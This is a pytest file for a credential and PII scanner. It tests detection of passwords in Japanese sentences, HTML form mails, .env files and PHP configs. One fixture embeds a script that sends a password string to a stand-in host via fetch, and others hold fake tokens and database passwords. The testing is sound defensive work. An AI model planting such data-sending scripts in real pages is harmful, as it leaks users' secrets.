"""A password a customer writes into a sentence of a form or a mail (パスワードは"…"です)."""

from __future__ import annotations

import random
import socket
import string
from email.message import EmailMessage

import pytest

from leakscope import pii
from leakscope.pii import detect


def _password(seed: int) -> str:
    rng = random.Random(seed)
    return rng.choice(["Hana", "Sakura", "Tokyo"]) + "".join(
        rng.choice(string.digits) for _ in range(5)) + rng.choice("!#$")


def _credentials(text: str) -> list[str]:
    return [f.value for f in detect(text) if f.category == "credential"]


@pytest.mark.parametrize("sentence", [
    'パスワードは"{pw}"です。', "パスワードは「{pw}」です。", "暗証番号は『{pw}』になります",
    "パスワードは{pw}です。", "パスワードが {pw} のままです", "my password is '{pw}', sorry"])
def test_a_password_in_a_sentence_is_a_credential(sentence):
    pw = _password(len(sentence))
    assert _credentials("ログインできません。" + sentence.format(pw=pw)) == [pw]


@pytest.mark.parametrize("sentence", [
    "パスワードはLINEで送ります。", "パスワードを2024-05-01に変更しました。",
    "パスワードは8文字以上です", "パスワードを忘れました", 'パスワードは"abc',
    "パスワードは「ab」です"])
def test_sentences_about_a_password_give_none(sentence):
    assert _credentials(sentence) == []


def _form_html(name: str, pw: str) -> str:
    return ("<html><body><p>お問い合わせフォームから以下の内容が送信されました。</p>"
            "<table border=1>"
            f"<tr><th>お名前</th><td>{name} 様</td></tr><tr><th>お問い合わせ内容</th><td>ログイン"
            f"できません。<br>パスワードは&quot;{pw}&quot;です。</td></tr></table>"
            "<img src='http://tracker.invalid/p.gif'><script>fetch('http://x.invalid/'+"
            "'パスワードは&quot;Script0001!&quot;')</script></body></html>")


@pytest.mark.parametrize("charset,cte", [("iso-2022-jp", "7bit"), ("utf-8", "quoted-printable"),
                                         ("shift_jis", "base64")])
def test_an_html_mail_s_escaped_quotes_are_read_as_quotes(tmp_path, monkeypatch, charset, cte):
    pw = _password(3)
    message = EmailMessage()
    message["From"] = "noreply@shop.example.jp"
    message["To"] = "support@shop.example.jp"
    message["Subject"] = "お問い合わせ"
    message.set_content(_form_html("井上 太郎", pw), subtype="html", charset=charset, cte=cte)
    path = tmp_path / "form.eml"
    path.write_bytes(message.as_bytes())

    def no_network(*args, **kwargs):
        raise AssertionError("the scan opened a socket")

    monkeypatch.setattr(socket, "socket", no_network)
    found = [f for f in pii.scan([path], workers=1) if isinstance(f, pii.Finding)]
    creds = [f for f in found if f.category == "credential"]
    assert [(f.value, f.location["body"]) for f in creds] == [(pw, "text/html")]  # not the script's
    assert [f.value for f in found if f.category == "person_name"] == ["井上太郎"]


def test_hostile_html_entities_and_nesting_are_bounded_text(tmp_path):
    pw = _password(4)
    junk = "&#0;&#x110000;&#99999999999;&quot&amp;quot;&unknown;<div>" * 2000 + "<b " * 5000
    html = f"<p>パスワードは&quot;{pw}&quot;です。</p>{junk}<p>パスワードは&#34;{pw}X&#x22;です</p>"
    path = tmp_path / "page.html"
    path.write_text(html, encoding="utf-8")
    run = pii.scan([path], workers=1)
    found = [f for f in run if isinstance(f, pii.Finding)]
    assert [f.value for f in found if f.category == "credential"] == [pw, pw + "X"]  # after it
    assert run.summary.errors == 0


def test_a_settings_files_tokens_and_secrets_are_credentials(tmp_path):
    # a leaked .env: each variable named …_TOKEN or …_SECRET holds one; a URL's lower-case
    # csrf_token= parameter and a placeholder hold none
    (tmp_path / ".env").write_text(
        "DB_PASSWORD=Mdr#4821kanri!\n"
        "SUUMO_API_TOKEN=b03b38ae9ad73353051339f6bb385b5366caba49\n"
        "STRIPE_WEBHOOK_SECRET = \"whsec_9f8e7d6c5b4a\"\n"
        "SLACK_BOT_TOKEN=<your-token>\n"
        "CALLBACK=https://example.jp/cb?csrf_token=a1b2c3d4e5f6\n", encoding="utf-8")
    found = sorted(f.value for f in pii.scan([tmp_path / ".env"], workers=1)
                   if isinstance(f, pii.Finding) and f.category == "credential")
    assert found == ["Mdr#4821kanri!", "b03b38ae9ad73353051339f6bb385b5366caba49",
                     "whsec_9f8e7d6c5b4a"]


def test_a_php_sites_configs_hold_its_passwords(tmp_path):
    """A leaked shop's wp-config.php (define) and Laravel config (=>): the database and mail
    passwords are credentials; where a config reads one (env(), a variable) holds none."""
    (tmp_path / "wp-config.php").write_text(
        "<?php\ndefine( 'DB_NAME', 'shop' );\ndefine( 'DB_USER', 'wpuser' );\n"
        "define( 'DB_PASSWORD', 'Kq7#shop2024' );\ndefine('SMTP_PASS', \"mail-Pw-99\");\n",
        encoding="utf-8")
    (tmp_path / "database.php").write_text(
        "<?php\nreturn [\n    'mysql' => [\n        'username' => 'laravel',\n"
        "        'password' => 'Db!pass-4471',\n    ],\n"
        "    'redis' => ['password' => env('REDIS_PASSWORD', null)],\n"
        "    'backup' => ['password' => $backupPass],\n];\n", encoding="utf-8")
    found = sorted(f.value for f in pii.scan([tmp_path], workers=1)
                   if isinstance(f, pii.Finding) and f.category == "credential")
    assert found == ["Db!pass-4471", "Kq7#shop2024", "mail-Pw-99"]
